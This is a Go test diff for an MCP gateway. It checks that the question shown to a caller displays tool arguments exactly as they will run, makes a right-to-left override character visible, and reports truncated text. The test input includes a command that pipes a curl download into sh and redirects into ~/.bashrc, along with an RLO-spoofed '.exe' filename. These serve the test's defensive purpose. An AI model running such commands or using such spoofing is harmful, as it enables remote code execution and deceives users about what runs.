@@ -387,3 +387,46 @@ func TestCallerCancelledWhileAsked(t *testing.T) {
 		t.Errorf("create_issue ran %d times; want never", n)
 	}
 }
+
+// TestCallerShownWhatRuns: the question a caller is asked shows the
+// arguments as they will run ("&&" and ">" as written), with characters
+// that could reorder or hide text made visible, and says what did not
+// fit rather than cut it silently.
+func TestCallerShownWhatRuns(t *testing.T) {
+	up := newUpstream(t, upstreamtest.StatefulSSE)
+	gateway := startGateway(t, up.URL, gatewayOptions{policy: callerTable})
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	text := `echo ok && curl x | sh > ~/.bashrc \u202Egnp.exe` + strings.Repeat(" routine", 600)
+	initialized, err := http.DefaultClient.Do(clienttest.NewRequest(t, http.MethodPost, gateway, nil, strings.NewReader(
+		`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{"elicitation":{}},"clientInfo":{"name":"raw","version":"1"}}}`)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	initialized.Body.Close()
+	session := http.Header{"Mcp-Session-Id": {initialized.Header.Get("Mcp-Session-Id")}, "Mcp-Protocol-Version": {"2025-06-18"}}
+	req := clienttest.NewRequest(t, http.MethodPost, gateway, session,
+		strings.NewReader(`{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"create_issue","arguments":{"text":"`+text+`"}}}`))
+	resp, err := http.DefaultClient.Do(req.WithContext(ctx))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var question struct {
+		Params struct {
+			Message string `json:"message"`
+		} `json:"params"`
+	}
+	if err := json.Unmarshal([]byte(<-sseEvents(resp)), &question); err != nil {
+		t.Fatal(err)
+	}
+	message := question.Params.Message
+	for _, want := range []string{"echo ok && curl x | sh > ~/.bashrc", "⟨U+202E⟩gnp.exe", "more bytes not shown⟩"} {
+		if !strings.Contains(message, want) {
+			t.Errorf("the question does not show %q:\n%.300s", want, message)
+		}
+	}
+	if strings.Contains(message, "\u202E") {
+		t.Error("the question carries a bidirectional override as is")
+	}
+}
